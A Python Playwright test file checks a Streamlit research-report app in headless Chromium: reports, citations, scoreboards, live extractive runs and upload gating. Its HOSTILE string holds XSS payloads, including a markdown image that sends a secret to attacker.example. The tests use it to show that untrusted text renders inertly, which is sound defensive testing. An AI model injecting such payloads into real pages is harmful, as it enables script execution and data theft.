"""The app in a real browser: `streamlit run app.py` on a loopback port, driven by headless Chromium (Playwright).

Opens Benchmarks, opens a report, opens a citation and sees its quote (screenshots go to tests/artifacts/), opens a
graded suite's scoreboard, a failing question and its report with the grading, checks that hostile report and quote
text renders as text: nothing loads from elsewhere and no script runs, and runs an extractive live research with the
access code on a server with no model key. Skips only when Chromium or Playwright
is not installed (CI installs both).
"""
from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from benchmarks.perf.st_client import Session
from pipeline.core.schema import Finding, Plan, Report, RunResult, Source, SubQuestion
from pipeline.store.files import save_run_file
from tests.fakes.documents import pdf_bytes
from tests.fakes.search_apis import FakeSearchApi, Hit
from tests.fakes.web_server import Route, WebServer
from tests.test_scoreboard import saved_suite

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = Path(__file__).parent / "artifacts"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
QUOTE = "Qdrant Cloud pricing starts at 25 dollars per month for the smallest cluster."
CODE = "browser-access-code-42"
NO_KEY_SENTENCE = ("No model key is configured on this server, so only the extractive mode — no model, sentences "
                   "selected by code — can run")
UPLOAD_MB = 0.05  # the per-file upload limit of the test server (Streamlit's own is 20 MB)
DOC_QUOTE = "The reactor output rose to 41 megawatts in March 2023."
# The page a live run reads arrives a byte at a time (about 3 s), so the browser sees the run in flight.
SLOW_PAGE = ("<html><head><title>Qdrant pricing</title></head><body><article><h1>Qdrant pricing</h1>"
             f"<p>Qdrant is an open-source vector database written in Rust.</p><p>{QUOTE}</p></article></body></html>")
HOSTILE = ('<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> '
           '![x](http://attacker.example/?q=secret) [click](javascript:alert(1)) '
           '<iframe src="http://attacker.example/frame"></iframe>')

try:
    from playwright.sync_api import Browser, Page, sync_playwright
except ImportError:  # pragma: no cover - CI installs it
    sync_playwright = None  # type: ignore[assignment]

pytestmark = pytest.mark.skipif(
    sync_playwright is None or not Path(CHROMIUM).exists(),
    reason="needs the playwright package and Debian's chromium at /usr/bin/chromium (.ci/run installs both)")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _source(url: str, title: str = "Qdrant pricing", fetched_at: str = "2025-03-01T10:00:00+00:00") -> Source:
    return Source(id="S1", url=url, final_url=url, title=title, published="2025-01-15", fetched_at=fetched_at,
                  sha256="0" * 64, chars=300)


def normal_run(page_url: str) -> RunResult:
    return RunResult(
        run_id="demo", question="What does Qdrant Cloud pricing start at?", mode="fixed", status="complete",
        models={"lead": "claude-sonnet-5-5", "worker": "claude-haiku-5-5"},
        plan=Plan(sub_questions=[SubQuestion(id="Q1", question="What is the entry price?")]),
        sources=[_source(page_url)],
        findings=[Finding(id="F1", sub_question="Q1", source="S1", claim="It starts at 25 dollars.", quote=QUOTE,
                          start=0, end=len(QUOTE), support="supported", confidence="high")],
        report=Report(markdown="# Qdrant Cloud pricing\n\n_Machine-assisted research report._\n\n"
                               "Qdrant Cloud starts at 25 dollars per month for the smallest cluster [F1].\n"),
        timings={"plan": 1.2, "research": 3.4})


def hostile_run(page_url: str) -> RunResult:
    """Hostile text everywhere untrusted text goes: question, title, body, list, quote, source title, gap."""
    rr = normal_run(page_url)
    bad = Finding(id="F2", sub_question="Q1", source="S1", claim="x", quote="The page said " + HOSTILE, start=0, end=5)
    return rr.model_copy(update={
        "run_id": "hostile", "question": f"Hostile {HOSTILE}", "findings": [*rr.findings, bad],
        "sources": [_source(page_url, title=f"T {HOSTILE}", fetched_at="2025-01-01T00:00:00+00:00")],
        "report": Report(markdown=f"# Title {HOSTILE}\n\nIt starts at 25 dollars [F1]. Also: {HOSTILE} [F2].\n\n"
                                  f"- {HOSTILE}\n\n> {HOSTILE}\n", gaps=[f"gap {HOSTILE}"])})


@dataclass
class App:
    url: str
    source_url: str
    outside: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    tmp = tmp_path_factory.mktemp("browser")
    slow = Route(headers={"Content-Type": "text/html; charset=utf-8"}, body=SLOW_PAGE.encode(),
                 drip=3.0 / len(SLOW_PAGE))
    with WebServer({"/qdrant": Route.html(f"<html><body><h1>Qdrant</h1><p>Intro.</p><p>{QUOTE}</p></body></html>"),
                    "/slow": slow}) as web, \
            FakeSearchApi("brave", [Hit(title="Qdrant pricing", url=web.url("/slow"), snippet="pricing")],
                          api_key="brave-key") as search:
        source_url = web.url("/qdrant")
        save_run_file(tmp / "bench" / "suite", normal_run(source_url))
        save_run_file(tmp / "bench" / "suite", hostile_run(source_url))
        # Two graded suites, run before the saved runs above (so "demo" stays the newest run), hostile text in one.
        for suite in ("news-mini", "failure-mini"):
            saved_suite(tmp / "bench", suite=suite, date="2024-12-01T08:00:00+00:00", started=1_733_040_000.0,
                        stopped=f"the $1.00 ceiling was reached {HOSTILE}" if suite == "failure-mini" else None,
                        detail=f"not quoted by a cited finding: ['three tiers'] {HOSTILE}")
        port = _free_port()
        # Live runs: the access code, no model key, and a live search provider (a local fake) with real fetching.
        env = {**{k: v for k, v in os.environ.items() if k != "ANTHROPIC_API_KEY"},
               "RESEARCH_BENCHMARK_DIR": str(tmp / "bench"), "RESEARCH_DB": str(tmp / "state" / "r.db"),
               "ACCESS_CODE": CODE, "ACCESS_CODE_SECRET": "", "RESEARCH_SEARCH_PROVIDER": "brave",
               "BRAVE_API_KEY": "brave-key", "RESEARCH_SEARCH_BASE_URL": search.base_url,
               "RESEARCH_FETCH_ALLOW": web.host_port, "RESEARCH_CACHE_DIR": str(tmp / "cache"),
               "RESEARCH_UPLOAD_MAX_FILE_MB": str(UPLOAD_MB)}
        proc = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port), "--server.address",
             "127.0.0.1", "--server.headless", "true", "--server.fileWatcherType", "none",
             "--browser.gatherUsageStats", "false"],
            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        try:
            url = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + 60
            while True:
                try:
                    with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as r:
                        if r.status == 200:
                            break
                except OSError:
                    pass
                if proc.poll() is not None or time.monotonic() > deadline:
                    out = proc.stdout.read().decode(errors="replace") if proc.stdout else ""
                    pytest.fail(f"streamlit did not start:\n{out[-3000:]}")
                time.sleep(0.3)
            yield App(url, source_url)
        finally:
            proc.terminate()
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(5)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture()
def page(browser: Browser, app: App) -> Iterator[Page]:
    ctx = browser.new_context(viewport={"width": 1280, "height": 1000})
    allowed = (app.url, app.source_url.rsplit("/", 1)[0])

    def guard(route: Any) -> None:
        if route.request.url.startswith(allowed):
            route.continue_()
        else:  # record it, and never let it leave the machine
            app.outside.append(route.request.url)
            route.abort()

    ctx.route("**/*", guard)
    pg = ctx.new_page()
    pg.set_default_timeout(30_000)
    yield pg
    ctx.close()


def test_open_benchmarks_then_a_report_then_a_citation(page: Page, app: App) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.goto(app.url + "/")
    page.get_by_role("heading", name="Benchmarks").wait_for()
    page.get_by_text("14 of 14 runs shown.").wait_for()
    page.get_by_role("link", name="Open a report from a list of every saved run").wait_for()
    page.get_by_test_id("stStatusWidget").wait_for(state="hidden")
    page.get_by_role("heading", name="All saved runs").evaluate("e => e.scrollIntoView({block: 'start'})")
    page.get_by_role("combobox", name="Mode", exact=True).wait_for()
    page.wait_for_timeout(500)  # the tables draw on a canvas after they arrive
    page.screenshot(path=str(ARTIFACTS / "benchmarks.png"))
    page.get_by_role("link", name="Open a report from a list of every saved run").click()
    choose(page, "Saved runs", "What does Qdrant Cloud pricing start at")
    page.wait_for_url("**/report?run=demo")
    page.get_by_role("heading", name="Qdrant Cloud pricing").wait_for()
    with page.expect_download() as download:  # made when clicked (ui/components.py)
        page.get_by_role("button", name="Report (Markdown)").click()
    assert download.value.suggested_filename == "report-demo.md"
    markdown = Path(download.value.path()).read_text("utf-8")
    assert "Qdrant Cloud starts at 25 dollars" in markdown and "[F1]" in markdown
    cite = page.locator('.vb-report [data-cite="F1"]').first
    card = cite.locator(".vb-card")
    assert not card.is_visible()
    cite.click()
    card.wait_for(state="visible")
    assert QUOTE in card.inner_text() and "Qdrant pricing" in card.inner_text() and "2025-01-15" in card.inner_text()
    page.screenshot(path=str(ARTIFACTS / "report-citation.png"))
    link = card.get_by_role("link", name="Open the source at this passage")
    assert link.get_attribute("target") == "_blank" and "noopener" in (link.get_attribute("rel") or "")
    with page.context.expect_page() as opened:
        link.click()
    source = opened.value
    source.wait_for_load_state()
    assert source.url.startswith(app.source_url + "#:~:text=Qdrant%20Cloud%20pricing")
    assert QUOTE in source.inner_text("body")
    assert app.outside == []


def choose(page: Page, label: str, option: str) -> None:
    """Picks `option` (the start of its text) in the Streamlit selectbox labelled `label`."""
    box = page.get_by_role("combobox", name=label)
    box.click()
    if box.get_attribute("aria-expanded") != "true":  # focus left on the box by an earlier choice: a click keeps it
        box.press("ArrowDown")
    page.get_by_role("option", name=option).first.click()


def test_open_a_suite_then_a_failing_question_then_its_report_with_the_grading(page: Page, app: App) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script("window.__pwned = undefined;")
    page.goto(app.url + "/")
    page.get_by_role("heading", name="Scoreboard").wait_for()
    choose(page, "Graded suite", "failure-mini")
    page.get_by_text("Suite failure-mini, version 1, corpus news").wait_for()
    stopped = page.get_by_text("This bench stopped before every run was made").first
    stopped.wait_for()
    assert "<script>window.__pwned=1</script>" in stopped.inner_text()
    page.get_by_text("1 of 2 questions fail in at least one mode").wait_for()
    page.get_by_text("Compared at equal budget").wait_for()
    page.get_by_text("Only failing questions").evaluate("e => e.scrollIntoView({block: 'end'})")
    page.screenshot(path=str(ARTIFACTS / "scoreboard.png"))
    choose(page, "Open a question", "fail · q2")
    markdown = page.locator('[data-testid="stMarkdownContainer"]')
    markdown.filter(has_text="extractive (no model): fail: answer").wait_for()
    assert markdown.filter(has_text="fixed: pass").count() == 1
    page.get_by_role("link", name="Open its extractive report").scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "scoreboard-question.png"))
    page.get_by_role("link", name="Open its extractive report").click()
    page.wait_for_url("**/report?run=failure-mini-q2-extractive")
    page.get_by_role("heading", name="Benchmark grading").wait_for()
    page.get_by_text("Failed: answer.").wait_for()
    page.get_by_text("Extractive · no model").first.wait_for()
    page.get_by_role("heading", name="Benchmark grading").scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "report-grading.png"))
    page.get_by_text("Answer recall").wait_for()
    main = page.locator('[data-testid="stMain"]')
    hrefs = main.locator("a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert not [h for h in hrefs if "attacker" in h or h.startswith("javascript")]
    assert page.evaluate("window.__pwned") is None and dialogs == [] and app.outside == []


def test_untrusted_content_renders_as_text_loads_nothing_and_runs_nothing(page: Page, app: App) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script("window.__pwned = undefined;")
    page.goto(app.url + "/report?run=hostile")
    report = page.locator(".vb-report").first
    report.wait_for()
    page.get_by_text("Also:").first.wait_for()
    text = report.inner_text()
    for shown in ("<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=2">',
                  "![x](http://attacker.example/?q=secret)", "[click](javascript:alert(1))",
                  '<iframe src="http://attacker.example/frame"></iframe>'):
        assert shown in text
    page.locator('.vb-report [data-cite="F2"]').first.click()
    card = page.locator('.vb-report [data-cite="F2"] .vb-card').first
    card.wait_for(state="visible")
    assert "<script>window.__pwned=1</script>" in card.inner_text()
    title = page.locator("h1").first.inner_text().replace("\u200b", "")  # zero-width spaces break autolinks
    assert page.locator("h1").first.locator("a[href]:not([href^='#'])").count() == 0  # only its own anchor
    assert "<script>window.__pwned=1</script>" in title and "![x](http://attacker.example/?q=secret)" in title
    page.wait_for_timeout(1000)  # give anything that would load or run the chance to
    page.screenshot(path=str(ARTIFACTS / "report-hostile.png"))
    main = page.locator('[data-testid="stMain"]')
    assert main.locator("img, iframe, object, embed, video, audio").count() == 0
    assert page.locator(".stHtml script, .stMarkdown script").count() == 0
    hrefs = main.locator("a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    links = [urlsplit(h) for h in hrefs if not h.startswith("#")]  # "#..." are Streamlit's heading anchors
    assert links and {(u.scheme, u.netloc) for u in links} == {("http", urlsplit(app.source_url).netloc)}
    assert page.evaluate("window.__pwned") is None and dialogs == []
    assert not [u for u in app.outside if "attacker.example" in u] and app.outside == []


def test_an_extractive_live_run_with_no_model_key_shows_progress_then_its_report(page: Page, app: App) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.goto(app.url + "/live")
    page.get_by_role("heading", name="Live research").wait_for()
    page.get_by_label("Access code").fill(CODE)
    page.get_by_role("button", name="Unlock").click()
    page.get_by_text(NO_KEY_SENTENCE).wait_for()
    page.get_by_text("extractive: no model at all").wait_for()
    assert page.get_by_role("radio").count() == 1  # the only mode this server offers
    page.get_by_label("Question").fill("What does Qdrant Cloud pricing start at?")
    page.get_by_role("button", name="Start research").click()
    page.get_by_role("heading", name="Running").wait_for()
    page.get_by_text("Searches: 3 of 8").wait_for()
    page.get_by_text("No model: code selects the sentences").wait_for()
    assert page.get_by_text("Model calls:").count() == 0 and page.get_by_text("Cost:").count() == 0
    page.screenshot(path=str(ARTIFACTS / "live-extractive-progress.png"))
    page.get_by_text("Finished: complete, 1 finding, no model, $0.").wait_for(timeout=60_000)
    page.screenshot(path=str(ARTIFACTS / "live-extractive-finished.png"))
    page.get_by_role("link", name="Open in the report view").click()
    page.wait_for_url("**/report?run=*")
    page.get_by_text("Extractive · no model").first.wait_for()
    cite = page.locator('.vb-report [data-cite="F1"]').first
    cite.click()
    card = cite.locator(".vb-card")
    card.wait_for(state="visible")
    assert QUOTE in card.inner_text() and "Qdrant pricing" in card.inner_text()
    page.screenshot(path=str(ARTIFACTS / "live-extractive-report.png"))
    assert app.outside == []


def _put_upload(url: str, session: Session, data: bytes) -> int:
    """PUT one file to Streamlit's upload endpoint as `session` (its cookie and XSRF token): the HTTP status."""
    token = session.cookies.get("_streamlit_xsrf", "")
    body = (b"--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.md\"\r\n"
            b"Content-Type: text/markdown\r\n\r\n" + data + b"\r\n--b0undary--\r\n")
    req = urllib.request.Request(f"{url}/_stcore/upload_file/{session.session_id}/file-1", data=body, method="PUT",
                                 headers={"Content-Type": "multipart/form-data; boundary=b0undary",
                                          "Cookie": f"_streamlit_xsrf={token}", "X-Xsrftoken": token})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code


def test_the_upload_endpoint_refuses_a_session_until_it_enters_the_access_code(app: App) -> None:
    async def go() -> tuple[int, int]:
        s = Session(app.url, timeout=60)
        try:
            run = await s.open("/live")
            assert run.ok and s.session_id, run.error()
            refused = await asyncio.to_thread(_put_upload, app.url, s, b"# Notes")
            await s.submit({"Access code": CODE}, "Unlock", run)  # the same session, now with the code
            allowed = await asyncio.to_thread(_put_upload, app.url, s, b"# Notes")
            return refused, allowed
        finally:
            await s.close()

    with ThreadPoolExecutor(1) as thread:  # Playwright's sync API keeps an event loop running in this thread
        refused, allowed = thread.submit(asyncio.run, go()).result()
    assert refused == 500 and allowed == 204  # refused by the gate, not for an unknown session (400)


def test_uploaded_documents_are_researched_and_a_quote_opens_in_the_documents_text(page: Page, app: App) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    pdf = pdf_bytes(["Annual review 2023.", "Plant operations were steady.", f"{DOC_QUOTE}\nOperators confirmed it.",
                     "Appendix."], title="Annual review")
    page.goto(app.url + "/live")
    page.get_by_role("heading", name="Live research").wait_for()
    assert page.locator('input[type="file"]').count() == 0  # no upload before the access code
    page.get_by_label("Access code").fill(CODE)
    page.get_by_role("button", name="Unlock").click()
    page.get_by_label("Question").wait_for()
    page.locator('input[type="file"]').set_input_files([
        {"name": "annual review.pdf", "mimeType": "application/pdf", "buffer": pdf},
        {"name": "too big.txt", "mimeType": "text/plain", "buffer": b"word " * 12_000}])
    page.get_by_text("too big.txt").first.wait_for()
    page.get_by_label("Question").fill("What was the reactor output in March 2023?")
    page.get_by_role("button", name="Start research").click()
    # .first: while Streamlit reruns, the previous run's copy of the notice can still be on the page beside the new one.
    page.get_by_text(f"too big.txt was not used: larger than the limit of {UPLOAD_MB:g} MB a file").first.wait_for()
    page.get_by_text("Finished:").wait_for(timeout=90_000)
    page.screenshot(path=str(ARTIFACTS / "live-documents-finished.png"))
    page.get_by_role("link", name="Open in the report view").click()
    page.wait_for_url("**/report?run=*")
    cite = page.locator(".vb-report .vb-cite", has_text="[F").filter(has_text="41 megawatts").first
    cite.click()
    card = cite.locator(".vb-card")
    card.wait_for(state="visible")
    assert "document annual review.pdf, p. 3" in card.inner_text()
    href = card.get_by_role("link", name="Open the passage in the document's text").get_attribute("href")
    assert href is not None and href.startswith("/report?run=") and "&passage=F" in href
    page.goto(app.url + href)
    mark = page.locator(".vb-passage mark")
    mark.wait_for()
    assert mark.inner_text() == DOC_QUOTE
    page.get_by_text("annual review.pdf, p. 3").first.wait_for()
    page.screenshot(path=str(ARTIFACTS / "live-documents-passage.png"))
    assert app.outside == []
